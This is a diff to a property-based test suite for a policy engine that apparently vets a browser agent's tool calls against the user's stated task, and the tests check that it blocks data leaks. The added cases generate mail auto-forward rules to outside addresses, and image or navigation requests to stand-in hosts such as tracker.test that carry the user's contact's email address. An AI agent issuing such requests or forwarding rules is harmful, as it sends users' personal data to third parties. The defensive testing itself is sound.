@@ -47,7 +47,8 @@ const addressArb = fc.constantFrom('inbox-archive@mailkeep.test', 'lee@corp.test
 /** Mail rules that send mail on: a forward-named field holding an address, or a rule's action field beside one. */
 const forwardArb: fc.Arbitrary<ToolCall> = fc.oneof(
   fc.tuple(fc.constantFrom('forward_to', 'forwarding_address', 'redirect_target', 'autoForwardTo', 'rule[forward]'), addressArb).map(([name, a]) => form('https://mail.test/settings/rules', { [name]: a, enabled: 'on' })),
-  fc.tuple(fc.constantFrom('vacation_action', 'rule[action]', 'mode', 'filter_type'), fc.constantFrom(...RULE_ACTIONS), fc.constantFrom('vacation_target', 'target', 'address', 'destination'), addressArb).map(([field, verb, target, a]) =>
+  // (A filter form's rows are numbered: `_action_type[0]`, `actions[1][type]`, `_action_target[0]`.)
+  fc.tuple(fc.constantFrom('vacation_action', 'rule[action]', 'mode', 'filter_type', '_action_type[0]', 'actions[1][type]', 'rule.0.action'), fc.constantFrom(...RULE_ACTIONS), fc.constantFrom('vacation_target', 'target', 'address', 'destination', '_action_target[0]'), addressArb).map(([field, verb, target, a]) =>
     form('https://mail.test/?_task=settings&_action=plugin.managesieve-vacation', { vacation_status: 'on', vacation_body: 'away', [field]: verb, [target]: a }),
   ),
 );
@@ -175,6 +176,64 @@ describe('task-scoped writes on generic sites (theorems)', () => {
         const call: ToolCall = { tool: 'browser.request', args: { method: 'POST', url: `https://gitlab.test/finch/api/-/issues/${sent}/${route}`, kind: 'xhr', body: { note: { note: 'on it' } } } };
         const record = decide(policy, call);
         if (named === sent) expect(record.decision, record.reason).toBe('ALLOW');
+        else expect(record.decision, record.reason).not.toBe('ALLOW');
+      }),
+      params,
+    );
+  });
+
+  it('an address the words name is no exfiltration shape on the task\'s sites only: to a host it does not name, it never ALLOWs', async () => {
+    const tasks = ['paypal my sister $60, her email is mia.chen@family.test', 'find the mail from mia.chen@family.test on mail.test and reply thanks'] as const;
+    for (const t of tasks) await policyOf(t);
+    const hostArb = fc.constantFrom('gift-bonus.test', 'tracker.test', 'promo.example');
+    fc.assert(
+      fc.property(fc.constantFrom(...tasks), hostArb, fc.constantFrom('email', 'e', 'to', 'q'), fc.boolean(), (task, host, param, fetched) => {
+        const url = `https://${host}/r?${param}=mia.chen%40family.test&amount=60`;
+        const call: ToolCall = fetched ? { tool: 'browser.request', args: { method: 'GET', url, kind: 'image' } } : { tool: 'browser.navigate', args: { url } };
+        const record = decide(policies.get(task)!, call);
+        expect(record.decision, `${task}: ${url}: ${record.reason}`).toBe('BLOCK');
+      }),
+      params,
+    );
+    // (A search for that sender on the site the words name is a read, as before.)
+    expect(decide(policies.get(tasks[1])!, { tool: 'browser.navigate', args: { url: 'https://mail.test/?_task=mail&_search=mia.chen%40family.test' } }).decision).toBe('ALLOW');
+  });
+
+  it('a ban of the user\'s own data holds every write that carries it, of any class; writes without it are not banned', async () => {
+    const bans = [['dont share my phone number', 'phone'], ["don't give them my email", 'email'], ['never send my home address', 'address']] as const;
+    const task = (ban: string) => `book a table for 2 at nori on dine.test friday 8pm, ${ban}`;
+    for (const [b] of bans) await policyOf(task(b));
+    const fieldArb = fc.record({
+      phone: fc.constantFrom('phone', 'phone_number', 'phoneNumber', 'guest[telephone]', 'mobile'),
+      email: fc.constantFrom('email', 'contactEmail', 'guest[e_mail]'),
+      address: fc.constantFrom('address', 'home_address', 'street'),
+    });
+    const values = { phone: '+1 207 555 0143', email: 'sam.r@mail.test', address: '12 Elm St' } as const;
+    fc.assert(
+      fc.property(fc.constantFrom(...bans), fieldArb, fc.constantFrom('request', 'form'), ([ban, kind], fields, how) => {
+        const body = { restaurant: 'nori', party_size: 2, time: '2026-12-04T20:00', name: 'Sam R', [fields[kind]]: values[kind] };
+        const call: ToolCall = how === 'form' ? form('https://dine.test/reservations', Object.fromEntries(Object.entries(body).map(([k, v]) => [k, String(v)]))) : { tool: 'browser.request', args: { method: 'POST', url: 'https://dine.test/api/reservations', kind: 'fetch', body } };
+        const record = decide(policies.get(task(ban))!, call);
+        expect(record.decision, `${ban}: ${record.reason}`).toBe('BLOCK');
+        expect(record.check).toBe('prohibitions');
+      }),
+      params,
+    );
+    // (The same booking without that field is the task's write.)
+    const plain: ToolCall = { tool: 'browser.request', args: { method: 'POST', url: 'https://dine.test/api/reservations', kind: 'fetch', body: { restaurant: 'nori', party_size: 2, time: '2026-12-04T20:00', name: 'Sam R' } } };
+    expect(decide(policies.get(task(bans[0][0]))!, plain).decision).not.toBe('BLOCK');
+  });
+
+  it('a count the words give a noun is exact: a write whose field for that noun carries another count never ALLOWs', async () => {
+    const task = (rooms: number, adults: number) => `book the cheapest hotel in porto for mar 3-5 on travel.test, ${rooms} room ${adults} adults`;
+    const counts = [1, 2, 3] as const;
+    for (const r of counts) for (const a of counts) await policyOf(task(r, a));
+    const roomKey = fc.constantFrom('rooms', 'num_rooms', 'roomCount', 'number_of_rooms', 'booking[rooms]');
+    fc.assert(
+      fc.property(fc.constantFrom(...counts), fc.constantFrom(...counts), fc.constantFrom(...counts), roomKey, fc.boolean(), (said, adults, sent, key, asText) => {
+        const body = { hotel_id: 'PT-OPO-118', checkin: '2027-03-03', checkout: '2027-03-05', [key]: asText ? String(sent) : sent, adults };
+        const record = decide(policies.get(task(said, adults))!, { tool: 'browser.request', args: { method: 'POST', url: 'https://travel.test/api/bookings', kind: 'fetch', body } });
+        if (said === sent) expect(record.decision, record.reason).toBe('ALLOW');
         else expect(record.decision, record.reason).not.toBe('ALLOW');
       }),
       params,
